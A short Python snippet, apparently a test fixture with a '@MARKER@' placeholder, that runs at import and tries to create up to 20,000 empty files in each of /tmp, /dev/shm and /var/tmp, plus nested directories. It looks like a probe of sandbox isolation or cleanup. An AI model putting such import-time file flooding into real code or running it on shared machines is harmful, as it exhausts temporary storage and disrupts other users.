# Create as many files as possible in every writable place, at import.
import os as _os

for _folder in ("/tmp", "/dev/shm", "/var/tmp"):
    for _index in range(20_000):
        try:
            open(f"{_folder}/@MARKER@-{_index}", "w").close()
        except OSError:
            break
    try:
        _os.makedirs(f"{_folder}/@MARKER@-dir/a/b", exist_ok=True)
    except OSError:
        pass
